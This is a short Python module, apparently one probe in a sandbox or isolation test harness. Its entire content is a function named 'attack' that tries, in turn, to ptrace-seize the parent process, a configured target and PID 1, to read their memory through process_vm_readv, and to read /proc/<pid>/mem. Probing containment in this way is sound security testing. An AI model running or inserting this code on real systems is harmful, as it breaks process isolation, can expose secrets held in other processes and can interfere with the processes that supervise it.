"""Traces its parent, and reads and writes its memory."""

import ctypes
import os


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    for number in {os.getppid(), TARGETS["head"], 1} - {0, os.getpid()}:
        if libc.ptrace(0x4206, number, None, None) == 0:
            libc.ptrace(17, number, None, None)
            return f"took hold of {number}"
        away = (ctypes.c_void_p * 2)(id(os) >> 12 << 12, 64)
        if libc.process_vm_readv(number, ctypes.byref(vector), 1, ctypes.byref(away), 1, 0) > 0:
            return f"took memory of {number}"
        try:
            with open(f"/proc/{number}/mem", "rb") as memory:
                memory.seek(id(os))
                return f"took {len(memory.read(8))} bytes of {number}"
        except OSError:
            continue
    return "nobody is traced"
